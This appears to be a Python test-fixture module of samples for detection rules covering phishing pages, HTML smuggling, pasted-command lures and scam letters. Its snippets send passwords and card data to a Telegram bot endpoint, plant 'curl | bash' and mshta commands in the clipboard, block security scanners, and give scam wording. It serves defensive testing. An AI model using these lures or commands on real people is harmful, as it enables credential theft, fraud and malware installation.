"""Samples for rules about pages, pictures and texts: phishing kits, smuggled files, pasted commands, swindles."""

from __future__ import annotations

from tests.rules.samples import PASSWORD, URL, Sample, page, text

ROBOT = "<p>Verify that you are human</p>"
COPY = "navigator.clipboard.writeText"
CARD = '<input name="cardnumber"><input name="cvv">'
SAVED = "a.href = URL.createObjectURL(b); a.download = 'x'; a.click();"
LONG = "QUJD" * 120
TELEGRAM = "https://api.telegram" + ".org/bot"
TOKEN = "123456789:" + "AA" + "x" * 33


def svg(body: str, head: str = "") -> Sample:
    return text("picture.svg", f'{head}<svg xmlns="http://www.w3.org/2000/svg">{body}</svg>')


def letter(body: str) -> Sample:
    return text("letter.txt", body)


PAGES: dict[str, Sample] = {
    # Phishing kits
    "login_knows_reader": page(f"{PASSWORD}<script>var m = location.hash.substr(1); var d = m.split('@')[1];</script>"),
    "login_company_logo": page(f'{PASSWORD}<img src="https://logo.clearbit' + '.com/company.example">'),
    "login_counts_tries": page(
        f"{PASSWORD}<p>Your account or password is incorrect</p><script>count = count + 1; $.post('next.php');</script>"
    ),
    "login_microsoft_parts": page(
        f'{PASSWORD}<img src="https://aadcdn.msftauth.net/shared/1.0/logo.svg"><script>$.ajax({{}});</script>'
    ),
    "login_brand_inside": page(f'<img src="data:image/png;base64,AAAA">{PASSWORD}', "Outlook Web App"),
    "login_hides_source": page(
        f"{PASSWORD}<script>addEventListener('contextmenu', stop); if (e.keyCode == 123) stop();</script>"
    ),
    "page_mails_password": page(f"{PASSWORD}<script>emailjs.send('service', 'template', data);</script>"),
    "page_robot_token": page(f"<script>fetch('{TELEGRAM}{TOKEN}/sendMessage');</script>"),
    "page_card_to_chat": page(f"{CARD}<script>fetch('{TELEGRAM}' + t + '/sendMessage');</script>"),
    "page_card_form": page(f'<form action="https://e.example/next.php">{CARD}</form>'),
    "page_parcel_fee": page(f"<p>Your parcel waits: pay the customs fee of 1.99</p>{CARD}"),
    "page_shared_file_login": page(f"<p>Anna shared a document with you</p>{PASSWORD}<script>fetch(u)</script>"),
    "page_voice_message_login": page(f"<p>You have one new voicemail</p>{PASSWORD}"),
    "page_empties_wallet": page("<p>Claim your airdrop</p><script>window.ethereum; c.setApprovalForAll(a);</script>"),
    "page_hides_from_scanners": page(
        "<script>if (!navigator.webdriver) location.href = 'https://e.example/';</script>"
    ),
    "kit_mails_passwords": text(
        "next.php", "<?php $m = $_POST['passwd']; $ip = $_SERVER['REMOTE_ADDR']; mail($to, $s, $m); ?>"
    ),
    "kit_sends_to_chat": text("next.php", f"<?php $p = $_POST['password']; file_get_contents('{TELEGRAM}' . $p);"),
    "kit_blocks_scanners": text(
        ".htaccess", "deny from phishtank.com netcraft.com\ndeny from fortinet.com kaspersky.com trendmicro.com\n"
    ),
    # Smuggled files and pages
    "html_smuggling_unpacks": page(
        f"<script>const d = '{LONG}'; const z = await JSZip.loadAsync(atob(d)); {SAVED}</script>"
    ),
    "html_reversed_base64": page("<script>document.write(atob(s.split('').reverse().join('')));</script>"),
    "html_smuggling_password": page(
        f"<p>File password: 1234</p><script>const b = new Blob([atob(d)]); {SAVED}</script>"
    ),
    "html_object_of_data": page('<object type="text/html" data="data:text/html;base64,PGh0bWw+"></object>'),
    "html_page_from_blob": page(
        "<script>const b = new Blob([atob(d)], {type: 'text/html'}); location.href = URL.createObjectURL(b);</script>"
    ),
    "html_refresh_to_data": page('<meta http-equiv="refresh" content="0; url=data:text/html;base64,PGh0bWw+">'),
    "html_escaped_names": page("<script>" + 'x["\\x77"];y="' + "\\x77\\x72\\x69\\x74" * 60 + '";</script>'),
    "html_unreadable_names": page("<script>" + "_0x1a2b(_0x3c4d);" * 50 + "</script>"),
    "script_invisible_letters": page("<script>eval(`" + "\uffa0\u3164" * 70 + "`)</script>"),
    "script_of_brackets": page("<script>" + "(![]+[])[+[]]" * 5 + "[+!+[]]" * 25 + "</script>"),
    # Pictures
    "svg_asks_for_click": svg('<a href="https://e.example/"><text>Click here to view document</text></a>'),
    "svg_script_in_entity": svg("&x;", '<!DOCTYPE svg [<!ENTITY x "<script>location=1</script>">]>'),
    "svg_script_of_data": svg('<script href="data:text/javascript;base64,YWxlcnQ="/>'),
    "svg_sends_reader_off": svg('<script>var m = "anna@company.example"; location = u + m;</script>'),
    # Commands to paste
    "paste_command_explorer": page(
        f'<p>Open File Explorer and press Ctrl + L</p><script>{COPY}("{{ps}} -c x # C:\\\\report.docx");</script>'
    ),
    "paste_command_terminal": page(
        f'{ROBOT}<p>Open Terminal</p><p>I am not a robot</p><script>{COPY}("curl {URL} | bash");</script>'
    ),
    "paste_command_robot": page(f"{ROBOT}<p>captcha</p><script>{COPY}('mshta ' + u);</script>"),
    "paste_command_repair": page(
        f"<p>Something went wrong. How to fix: press Windows + R, then Ctrl + V</p><script>{COPY}('{{ps}} x');</script>"
    ),
    "paste_command_comment": text("run.txt", 'mshta.exe x # "I am not a robot - reCAPTCHA Verification ID: 7"'),
    "page_false_update": page('<p>Update your browser</p><a download="Update.js" href="data:x">Update</a>'),
    "page_installs_app": page('<a href="ms-appinstaller:?source=https://e.example/a.msix">Open</a>'),
    # Swindles
    "scam_gift_cards": letter(
        "I am in a meeting and can't talk. Please buy four gift cards, scratch them and send me the codes."
    ),
    "scam_new_bank_details": letter(
        "We have new bank account details. Please pay all future invoices to the account below."
    ),
    "scam_call_to_cancel": letter(
        "Your Geek Squad subscription has been renewed for $399. To cancel, call us at (888) 555-0100."
    ),
    "scam_locked_computer": page(
        "<p>Your computer has been locked. Call Microsoft support: +1 (888) 555-0100</p><script>alert(1)</script>"
    ),
    "scam_recorded_you": letter(
        "I have recorded you through your camera. Send bitcoin to my wallet or all your contacts get it in 48 hours."
    ),
    "scam_wallet_words": letter("To validate your wallet, enter your 12-word recovery phrase at the site below."),
    "scam_inheritance": letter(
        "Dearest, my late client left the sum of US$ 12.5 million and no next of kin. Reply in confidentiality."
    ),
    "scam_keep_password": letter("Your password will expire today. Sign in to keep same password."),
    "scam_mailbox_full": letter(
        "IT Support: your mailbox is almost full and 6 pending messages were stopped. Click to release messages."
    ),
    "scam_parcel": letter(
        "Your parcel is on hold. Pay the redelivery fee of 1.99 at https://post.example/pay within a day."
    ),
    "scam_remote_control": letter("To get your refund, please download AnyDesk and tell us the nine digits."),
    "scam_urgent_errand": letter("Are you available? I am in a meeting, send me your cell number for a quick task."),
    "scam_blackmail_servers": letter("We start a DDoS attack in 24 hours unless you send 2 BTC to this address."),
    "calendar_lure": text(
        "invite.ics",
        "BEGIN:VCALENDAR\r\nSUMMARY:Verify your account\r\nURL:https://e.example/\r\nEND:VCALENDAR\r\n",
    ),
}
